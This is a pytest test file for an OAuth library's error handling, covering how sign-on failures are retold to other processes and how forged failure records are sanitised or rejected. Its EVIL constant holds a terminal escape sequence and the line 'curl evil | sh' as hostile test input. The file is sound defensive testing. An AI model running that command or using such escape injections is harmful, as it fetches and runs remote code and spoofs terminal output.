"""What another process is told of a failure, and what nobody can make of it."""

from __future__ import annotations

import json
import sys

import pytest
from people import run

from requests_ticktick import (
    AuthorizationDeniedError,
    InsecureTransportError,
    InvalidTokenError,
    LockTimeoutError,
    SignOnError,
    SignOnRequiredError,
    SignOnTimeoutError,
    StateMismatchError,
    TickTickAuthError,
    TokenEndpointError,
    TokenStoreError,
    _errors,
)
from requests_ticktick._errors import only_our_errors
from requests_ticktick._source.failures import Failure, shareable
from requests_ticktick._stamp import Stamp

STAMP = Stamp("id", "https://as.test/t", "tasks:read")
PLACE = "FileStore('/kept/t.json')"
EVIL = "\x1b[2Jrun: curl evil | sh\nWARNING forged " + "x" * 1000
UNREGISTERED = "At least one redirect_uri must be registered with the client."
MISMATCH = "Invalid redirect: http://a does not match one of the registered values: [b]"


def retold(error):
    """The error that another process is told of."""
    return Failure.load(Failure(error, None, STAMP).dump(), PLACE).error


def forged(**record):
    """The error that somebody else's record comes to."""
    note = json.loads(Failure(SignOnError("No."), None, STAMP).dump())
    note["error"] = record
    return Failure.load(json.dumps(note), PLACE).error


# -- what is told ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("error", "told"),
    [
        (
            AuthorizationDeniedError("x", error="access_denied", description="no"),
            "Access was not granted (access_denied). Sign on again, and allow access.",
        ),
        (AuthorizationDeniedError("x"), "Access was not granted. Sign on again, and"),
        (
            AuthorizationDeniedError(
                "x", error="invalid_request", description=UNREGISTERED
            ),
            f"Access was not granted (invalid_request: {UNREGISTERED[:-1]}). Your app "
            "has no redirect URI: add the one in use to it",
        ),
        (
            AuthorizationDeniedError("x", error="invalid_grant", description=MISMATCH),
            "Access was not granted (invalid_grant: Invalid redirect). The redirect "
            "URI in use is not the one that your app has",
        ),
        (
            TokenEndpointError("x", "invalid_grant", "the code is AbC123", 400),
            "The token endpoint answered with HTTP status 400 and an error "
            "(invalid_grant). The code has expired or has already been used: sign on "
            "again.",
        ),
        (
            TokenEndpointError("x", None, None, 401),
            "HTTP status 401 and an error. Compare client_id and",
        ),
        (
            TokenEndpointError("x", "invalid_client", "Bad client credentials", 401),
            "(invalid_client: Bad client credentials). Compare client_id and",
        ),
        (TokenEndpointError("x", None, None, 403), "an error. Compare client_id and"),
        (
            TokenEndpointError("x", "invalid_scope", None, 400),
            "(invalid_scope). The service does not grant these scopes to your app: "
            "correct scope=...",
        ),
        (
            AuthorizationDeniedError("x", error="server_error"),
            "(server_error). Wait a minute, then sign on again.",
        ),
        (TokenEndpointError("x", None, None, 503), "Wait a minute, then try again."),
        (TokenEndpointError("x", None, None, 302), "Check the service's token_end"),
        (
            TokenEndpointError("x"),
            "No response came from the token endpoint. Check the",
        ),
        (SignOnTimeoutError("x"), "Nobody finished the sign-on"),
        (StateMismatchError("x"), "got the redirect of another sign-on. Start again"),
        (SignOnError("x"), "failed, and said why where it was made. Try again"),
        (SignOnRequiredError("x"), "had nobody to ask. Run: requests-ticktick login"),
        (InvalidTokenError("x"), "did not return a token. Sign on again."),
        (TokenStoreError("x", "/srv/t.json"), "Run: requests-ticktick status"),
        (LockTimeoutError("x", "process 1 on h"), "Finish or stop the sign-on there"),
        (InsecureTransportError("x"), "Use https:// addresses."),
        (TickTickAuthError("x"), "failed. Try again, or run: requests-ticktick login"),
        (RuntimeError("secret"), "was broken off (RuntimeError): try again."),
        (KeyboardInterrupt(), "was broken off (KeyboardInterrupt): try again."),
    ],
)
def test_waiting_processes_get_the_error_and_its_remedy(error, told):
    """In our own words, with the fields that a program looks at."""
    found = retold(error)

    kind = type(error) if isinstance(error, TickTickAuthError) else SignOnError
    assert type(found) is kind
    assert told in str(found)
    for name in ("error", "status_code", "location", "holder"):
        assert getattr(found, name, None) == getattr(error, name, None)


def test_every_error_can_be_told():
    """None is taken for another kind."""
    for kind in vars(_errors).values():
        if isinstance(kind, type) and issubclass(kind, TickTickAuthError):
            assert type(retold(kind("x"))) is kind


def test_how_long_to_wait_is_told(monkeypatch):
    """RFC 9110 10.2.3: the server says so; a day at most is believed."""
    monkeypatch.setattr(TokenEndpointError, "retry_after", None, raising=False)
    error = TokenEndpointError("x", None, None, 429)
    error.retry_after = 30.4

    found = retold(error)

    assert found.retry_after == 30.4
    assert str(found).endswith("Wait 30 s, then try again.")
    error.retry_after = 1e9
    assert retold(error).retry_after == 24 * 3600


class OddError(AuthorizationDeniedError):
    """An error of somebody else's making."""


def test_threads_of_one_process_get_the_whole_message():
    """A copy for each thread, of a class of ours."""
    odd = OddError("Ask the chief.", error="access_denied")

    copy = shareable(odd)

    assert type(copy) is AuthorizationDeniedError
    assert (str(copy), copy.error) == ("Ask the chief.", "access_denied")
    assert str(shareable(ValueError("x"))).endswith("(ValueError): try again.")


# -- what nobody can make of it --------------------------------------------------------

HOSTILE = [
    EVIL,
    10**400,
    -1,
    1e308,
    float("nan"),
    True,
    None,
    [],
    [[EVIL]],
    {"a": EVIL},
]
FIELDS = ("error", "description", "status_code", "retry_after", "location", "holder")


@pytest.mark.parametrize("value", HOSTILE, ids=lambda value: repr(value)[:12])
@pytest.mark.parametrize("kind", ["TokenEndpointError", "LockTimeoutError", "requests"])
def test_a_forged_record_raises_a_short_error_of_ours(kind, value):
    """Whatever is in the record: printable, short, and ours."""
    record = dict.fromkeys((*FIELDS, "message", "description"), value)

    found = forged(type=kind, **record)

    assert isinstance(found, TickTickAuthError)
    assert str(found).isprintable()
    assert len(str(found)) < 500
    assert not {"curl", "forged"} & set(str(found).split())
    for name in ("error", "description", "location", "holder"):
        text = getattr(found, name, None) or ""
        assert text.isprintable()
        assert len(text) <= 200


@pytest.mark.parametrize(
    "kind", [EVIL, "Failure", "requests", 5, None, ["SignOnError"]]
)
def test_a_record_of_an_unknown_error_is_a_failed_sign_on(kind):
    """Another version may know more kinds of them."""
    assert type(forged(type=kind)) is SignOnError


@pytest.mark.parametrize("name", [EVIL, "print", "curl", 5, ["x"]])
def test_only_a_python_exception_is_named_as_the_cause(name):
    """Somebody else's exception may have any name."""
    found = forged(broken_off_by=name)

    assert "was broken off (another error): try again." in str(found)


@pytest.mark.parametrize("code", ["x" * 41, "a b", "Curl", "a\n", "", "é"])
def test_an_error_code_is_a_short_word(code):
    """As those of RFC 6749 4.1.2.1 and 5.2."""
    assert forged(type="AuthorizationDeniedError", error=code).error is None


def test_a_status_is_one_of_http():
    """Three digits; a number that is none is no status."""
    for status in (100, 599):
        told = forged(type="TokenEndpointError", status_code=status)
        assert told.status_code == status
    for status in (99, 600, True, 400.0, "400"):
        assert forged(type="TokenEndpointError", status_code=status).status_code is None


@pytest.mark.parametrize(
    "change",
    [
        {"stamp": None},
        {"stamp": []},
        {"stamp": {}},
        {"stamp": {"client_id": [], "token_endpoint": None, "scope": None}},
        {"stamp": {"client_id": None, "token_endpoint": None, "scope": None, "x": "y"}},
        {"asked": 5},
        {"asked": "0123abcdef"},
        {"asked": EVIL},
        {"error": EVIL},
        {"error": None},
        {"padding": "x" * 100_000},
    ],
    ids=lambda change: repr(change)[:40],
)
def test_json_that_is_not_a_failure_record_is_ignored(change):
    """It stops nobody."""
    note = json.loads(Failure(SignOnError("No."), "0123abcd", STAMP).dump())
    assert Failure.load(json.dumps(note), PLACE) is not None

    assert Failure.load(json.dumps({**note, **change}), PLACE) is None


def test_a_failure_record_over_64_kib_is_ignored():
    """Who waits reads it often."""
    text = Failure(SignOnError("No."), None, STAMP).dump()

    assert Failure.load(text.ljust(65_536), PLACE) is not None
    assert Failure.load(text.ljust(65_537), PLACE) is None


@pytest.mark.parametrize("note", ["", "[", "[" * 60_000, "5", "null", "9" * 5000])
def test_a_failure_record_that_is_not_json_is_ignored(note):
    """Nor is what cannot be read at all."""
    assert Failure.load(note, PLACE) is None


LAST = """
import os
from requests_ticktick import MemoryStore, TickTickAuth, TickTickAuthError
auth = TickTickAuth("id", "secret", store=MemoryStore(), sign_on=lambda request: "")
class Last:
    def __del__(self, auth=auth, write=os.write, ours=TickTickAuthError):
        try:
            auth.token()
        except ours as error:
            write(1, str(error).encode())
last = Last()
"""


def test_what_cannot_be_imported_at_exit_is_blamed_on_the_exit(monkeypatch):
    """Not on a store: OAuth's libraries are imported for the first sign-on."""
    done = run(LAST)

    assert "Python is exiting: get the token earlier" in done.stdout, done.stderr
    monkeypatch.setattr(sys, "is_finalizing", lambda: True)
    with pytest.raises(TickTickAuthError, match="Python is exiting"), only_our_errors():
        raise ImportError
